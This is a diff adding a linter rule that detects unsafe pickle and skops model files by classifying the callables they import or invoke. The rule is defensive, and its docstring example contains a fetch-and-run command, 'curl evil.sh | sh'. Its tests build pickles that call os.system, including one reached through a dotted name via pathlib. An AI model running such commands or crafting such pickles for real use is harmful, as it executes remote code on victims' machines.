@@ -1,0 +1,83 @@
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from modellint.analyzer.model_dir import ModelDir
+from modellint.analyzer.pickle_policy import Verdict, classify
+from modellint.analyzer.pickles import GlobalRef
+from modellint.findings import Finding, Severity
+from modellint.rules._base import Invalid, Rule, Valid
+from modellint.rules._examples import CLEAN, model_files
+from modellint.rules._serialized_examples import call_pickle, instance_pickle, skops_file
+
+
+class UnsafePickle(Rule):
+    """## What it does
+    Classifies everything that loading the model's serialized files imports or calls (REDUCE,
+    NEWOBJ, OBJ, INST, BUILD via `__setstate__`, skops constructors) and reports what runs
+    commands, code, or touches files or the network: `os.system`, `subprocess.*`,
+    `builtins.eval`/`exec`/`getattr`, `runpy`, `pickle.loads`, `pkgutil.resolve_name`,
+    `importlib.import_module`, known gadgets in ML libraries (MLflow's project runner,
+    `torch.load`, pandas readers, `from_pretrained`), dotted names that walk out of a module
+    (`pathlib` + `os.system`), and protocol-0 names mapped from Python 2.
+
+    ## Why is this bad?
+    Loading a pickle runs whatever callables it names, before the model is ever used. A denylist
+    of "dangerous" names is structurally incomplete (every published scanner bypass found one
+    more), so the standard library is judged by a reviewed allowlist: anything not on it is
+    reported. Third-party classes from ML libraries are dependencies, not findings.
+
+    ## Example
+    ```text
+    model.pkl: STACK_GLOBAL 'os' 'system'; REDUCE ('curl evil.sh | sh',)
+    ```
+
+    ## Fix
+    Do not load the file. Rebuild the model from trusted code and data, or save it with a format
+    that cannot run code (skops with reviewed trusted types, ONNX, safetensors).
+    """
+
+    code = "ML302"
+    name = "unsafe-pickle"
+    severity = Severity.ERROR
+    fix_title = "Do not load this file; rebuild the model from trusted code and data"
+    standalone_file = True  # judged without MLmodel too (`modellint check model.pkl`)
+
+    VALID = (
+        Valid(CLEAN),
+        Valid(model_files(**{"artifacts/state.pkl": instance_pickle("collections", "OrderedDict")})),
+    )
+    INVALID = (
+        Invalid(model_files(**{"artifacts/state.pkl": call_pickle("os", "system", "echo pwned")}),
+                (("artifacts/state.pkl", 1),)),
+        Invalid(model_files(**{"artifacts/state.pkl": call_pickle("pathlib", "os.system", "echo pwned")}),
+                (("artifacts/state.pkl", 1),), note="a dotted name walks from an allowed module to os"),
+        Invalid(model_files(model__skops=skops_file(("sklearn.pipeline", "Pipeline"), ("builtins", "eval"))),
+                (("model.skops", 1),)),
+    )
+
+    def check(self, model: ModelDir) -> Iterator[Finding]:
+        for serialized in model.serialized_files:
+            scan = serialized.scan
+            reported: set[tuple[str, str]] = set()
+            uses = [(site.callable, f"calls `{_display(site.callable)}` ({site.opcode} at byte {site.offset}")
+                    for site in scan.calls]
+            uses += [(ref, f"imports `{_display(ref)}` ({ref.opcode} at byte {ref.offset}") for ref in scan.globals]
+            for ref, what in uses:
+                key = (ref.module, ref.name)
+                if key in reported or classify(ref.module, ref.name) is not Verdict.UNSAFE:
+                    continue
+                reported.add(key)
+                yield self.finding(
+                    serialized.path,
+                    f"loading `{serialized.relative}` {what}{_member(ref)}), which can run commands or code, "
+                    "or touch files or the network",
+                )
+
+
+def _display(ref: GlobalRef) -> str:
+    return f"{ref.module}.{ref.name}"
+
+
+def _member(ref: GlobalRef) -> str:
+    return f" in `{ref.member}`" if ref.member else ""
